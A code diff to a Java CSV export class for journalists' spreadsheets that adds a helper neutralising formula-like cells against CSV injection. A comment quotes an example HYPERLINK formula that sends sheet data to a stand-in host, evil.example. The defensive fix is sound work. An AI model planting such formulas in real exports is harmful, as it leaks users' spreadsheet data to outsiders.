@@ -15,7 +15,8 @@ import org.springframework.stereotype.Component;
 
 /**
  * CSV for journalists' spreadsheets: one row per statement, RFC 4180 (CRLF, quotes doubled),
- * UTF-8, with an optional byte-order mark so Excel reads the encoding right.
+ * UTF-8, with an optional byte-order mark so Excel reads the encoding right. Text cells that a
+ * spreadsheet would run as a formula are neutralised (see {@link #text}).
  */
 @Component
 public class CsvStatementsFormat implements ExportFormat {
@@ -53,16 +54,32 @@ public class CsvStatementsFormat implements ExportFormat {
         CSVPrinter csv = new CSVPrinter(writer, CSVFormat.RFC4180.builder().setHeader(HEADER).get());
         while (records.hasNext()) {
             ExportRecord r = records.next();
-            csv.printRecord(r.statementId(), r.documentId(), r.title(), r.documentSha256(), r.start(), r.end(), r.exact(),
-                    r.label().code(), r.presentation() == null ? "" : r.presentation().code(),
-                    nullToEmpty(r.attributionSource()), nullToEmpty(r.attributionCue()), nullToEmpty(r.rationale()),
-                    String.join(";", r.tagList()), r.reviewer(), r.createdAt(), r.reviewState().code(),
+            csv.printRecord(r.statementId(), r.documentId(), text(r.title()), r.documentSha256(), r.start(), r.end(),
+                    text(r.exact()), r.label().code(), r.presentation() == null ? "" : r.presentation().code(),
+                    text(r.attributionSource()), text(r.attributionCue()), text(r.rationale()),
+                    text(String.join(";", r.tagList())), text(r.reviewer()), r.createdAt(), r.reviewState().code(),
                     r.goldLabel() == null ? "" : r.goldLabel().code(), nullToEmpty(r.decidedBy()),
                     r.decidedAt() == null ? "" : r.decidedAt(), r.published() == null ? "" : r.published(),
-                    nullToEmpty(r.sourceName()), nullToEmpty(r.url()), nullToEmpty(r.admiralty()),
+                    text(r.sourceName()), text(r.url()), nullToEmpty(r.admiralty()),
                     r.claimId() == null ? "" : r.claimId());
         }
         csv.flush();
+    }
+
+    /**
+     * A cell of text someone typed or a document contains. One that starts with {@code = + - @}, a tab or a
+     * carriage return would be run as a formula by Excel, LibreOffice or Google Sheets (a rationale
+     * {@code =HYPERLINK("http://evil.example/?"&A1,"x")} sends the sheet's data away when clicked), so it
+     * gets a leading apostrophe, which spreadsheets show as text (OWASP's advice for CSV injection). The
+     * JSON formats keep every value exactly.
+     */
+    static String text(String value) {
+        if (value == null || value.isEmpty()) {
+            return "";
+        }
+        char first = value.charAt(0);
+        boolean formula = first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r';
+        return formula ? "'" + value : value;
     }
 
     private static String nullToEmpty(String value) {
